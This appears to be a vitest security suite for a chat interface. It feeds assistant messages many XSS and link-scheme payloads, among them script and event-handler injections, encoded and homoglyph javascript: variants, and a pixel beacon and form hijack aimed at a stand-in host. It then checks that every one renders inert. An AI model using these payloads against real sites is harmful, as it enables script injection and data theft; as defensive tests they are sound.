import { afterAll, beforeAll, expect, it } from 'vitest';
import { ChatBrowser, type ChatPage } from './chatPage.ts';
import { assistant, cite, user } from './conversations.ts';

let browser: ChatBrowser;
let chat: ChatPage;

beforeAll(async () => {
  browser = await ChatBrowser.launch();
  chat = await browser.open();
});
afterAll(async () => {
  await browser.close();
});

const attacks = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><a xlink:href="javascript:window.hacked=1"><text>x</text></a></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<math><mtext><style><img src=x onerror="window.hacked = 1"></style></mtext></math>',
  '<details open ontoggle="window.hacked = 1"><summary>x</summary></details>',
  '[click](javascript:window.hacked=1)',
  '[click](JaVa&#115;cript:window.hacked=1)',
  '[click](<javascript:window.hacked=1>)',
  '[click](command:workbench.action.terminal.new)',
  '[click](vscode://evil/x)',
  '[click](file:///etc/passwd)',
  '[click](data:text/html,<script>window.hacked=1</script>)',
  '[x]: javascript:window.hacked=1\n\n[click][x]',
  '[a](https://x.test "\\" onmouseover=window.hacked=1 \\"")',
  '![pixel](https://evil.test/leak.png?secret=1)',
  '![" onerror="window.hacked=1](x)',
  '`<img src=x onerror="window.hacked = 1">`',
  '```html\n<script>window.hacked = 1</script>\n<img src=x onerror="window.hacked = 1">\n```',
  '```"><img src=x onerror=window.hacked=1>\ncode\n```',
  '- ```<b>\n  <img src=x onerror="window.hacked = 1">\n  ```',
  '| <img src=x onerror="window.hacked = 1"> |\n|---|\n| <script>window.hacked=1</script> |',
  '<button data-citation="1" onclick="window.hacked = 1">x</button>',
  '<style>body { display: none }</style>',
  '<base href="https://evil.test/"><form action="https://evil.test/"><input name=x></form>',
];

it.each(attacks)('attack: %s is inert, at once and in parts', async (attack) => {
  await chat.sendState({ messages: [user('q'), assistant('', { id: 's', state: 'streaming' })] });
  for (const character of attack) await chat.call('append', { messageId: 's', text: character });
  await chat.append('s', '\n\n');
  await chat.sendState({ messages: [user(attack), assistant(attack, { note: attack, state: 'failed' })] });

  const answer = chat.page.locator('.message');
  expect(await answer.locator('script, img, iframe, style, form, base, object, math, details').count()).toBe(
    0,
  );
  expect(await answer.locator('svg:not(.icon), [data-citation]').count()).toBe(0);
  const links = await answer.locator('a').evaluateAll(hrefs);
  for (const link of links) expect(link).toMatch(/^https:/);
  expect(await answer.evaluateAll(countHandlers)).toBe(0);
  expect(await chat.page.evaluate('window.hacked')).toBeUndefined();
  expect(chat.problems).toEqual([]);
});

/** The target of a link that is to be refused. */
const REFUSED = [
  ...[
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'data:text/html,x',
    'DaTa:text/html;base64,eA==',
    'blob:x',
  ],
  ...[
    'vbscript:x',
    'command:x',
    'COMMAND:x?%5B%5D',
    'vscode://x/y',
    'vscode-insiders://x',
    'vscode-resource://x',
  ],
  ...[
    'vscode-webview://x',
    'file:///etc/passwd',
    'FILE:/etc',
    'ftp://x.test',
    'ws://x.test',
    'ms-msdt:/id',
    'ssh://x',
  ],
  ...[
    '//x.test/a',
    '\\\\x.test\\a',
    '/\\x.test',
    '\\/x.test',
    '/etc/passwd',
    '#top',
    '?x=1',
    'x.test',
    './a.ts',
  ],
  ...[
    'java&#9;script:alert(1)',
    'java&Tab;script:alert(1)',
    '&#106;avascript:alert(1)',
    'javascript&colon;alert(1)',
  ],
  ...[
    'java%73cript:alert(1)',
    'javascript%3Aalert(1)',
    '\u0001javascript:alert(1)',
    'java\u200bscript:alert(1)',
  ],
  ...[
    '<java\tscript:alert(1)>',
    '< javascript:alert(1)>',
    '<\u00a0javascript:alert(1)>',
    '\uff4aavascript:alert(1)',
  ],
  ...[
    'jav\u0430script:alert(1)',
    'h\u0442tps://x.test',
    'https\uff1a//x.test',
    'ht&#10;tps://x.test',
    'view-source:https://x.test',
  ],
  ...[
    'https://',
    'https://[',
    'http://%',
    'https://good.test@x.test/',
    'https://good.test:443@x.test/',
    'http://a:b@x.test',
  ],
] as const;

it.each(REFUSED)('attack: a link to %j is text', async (target) => {
  const answer = `[click](${target}) ![picture](${target}) <${target}>\n\n[x]: ${target}\n\n[click][x]`;
  await chat.sendState({ messages: [user('q'), assistant(answer)] });
  expect(await chat.page.locator('.answer a').count()).toBe(0);
  expect(await chat.page.locator('.answer').innerText()).toContain('click');
});

it.each([
  ['[https://good.test](https://x.test/a)', 'https://x.test/a', 'https://good.test (x.test)'],
  ['[good.test/login](https://x.test)', 'https://x.test/', 'good.test/login (x.test)'],
  ['[good.test.x.test](https://x.test)', 'https://x.test/', 'good.test.x.test (x.test)'],
  ['[the page](https://\u0430pple.test)', 'https://xn--pple-43d.test/', 'the page (xn--pple-43d.test)'],
  ['[a](https:x.test)', 'https://x.test/', 'a'],
  ['[a](https:\\\\x.test\\b)', 'https://x.test/b', 'a'],
  ['[a](HTTPS://X.TEST/\u202eb)', 'https://x.test/%E2%80%AEb', 'a'],
  ['![good.test](https://x.test/p.png)', 'https://x.test/p.png', 'good.test (x.test)'],
  ['[docs.x.test and x.test](https://docs.x.test/)', 'https://docs.x.test/', 'docs.x.test and x.test'],
])('attack: %j says where it leads', async (markdown, target, shown) => {
  await chat.sendState({ messages: [user('q'), assistant(markdown)] });
  const link = chat.page.locator('.answer a');
  expect([await link.getAttribute('href'), await link.getAttribute('title')]).toEqual([target, target]);
  expect((await chat.page.locator('.answer').innerText()).trim()).toBe(shown);
});

it('attack: shows raw HTML as the text that it is', async () => {
  await chat.sendState({ messages: [user('q'), assistant('Use <b>bold</b> and\n\n<div>x</div>')] });
  expect(await chat.page.locator('.answer').innerText()).toContain('Use <b>bold</b> and');
  expect(await chat.page.locator('.answer').innerText()).toContain('<div>x</div>');
});

it('attack: treats the path of a source as text', async () => {
  const path = '"><img src=x onerror="window.hacked = 1">.ts';
  await chat.sendState({ messages: [user('q'), assistant('x [1]', { citations: [cite(1, path, 1, 2)] })] });
  expect(await chat.page.locator('.message img').count()).toBe(0);
  expect(await chat.page.locator('.answer button').getAttribute('aria-label')).toContain(path);
});

it('attack: runs no script that is not ours', async () => {
  await chat.page.evaluate(
    `document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' }))`,
  );
  expect(await chat.page.evaluate('window.hacked')).toBeUndefined();
  expect(chat.problems.join()).toContain('Content Security Policy');
});

interface PageElement {
  getAttribute(name: string): string | null;
  getAttributeNames(): string[];
  querySelectorAll(selector: string): Iterable<PageElement>;
}

function hrefs(links: PageElement[]): (string | null)[] {
  return links.map((link) => link.getAttribute('href'));
}

function countHandlers(messages: PageElement[]): number {
  return messages
    .flatMap((message) => [...message.querySelectorAll('*')])
    .flatMap((element) => element.getAttributeNames())
    .filter((name) => name.startsWith('on') || name === 'style' || name === 'srcdoc').length;
}
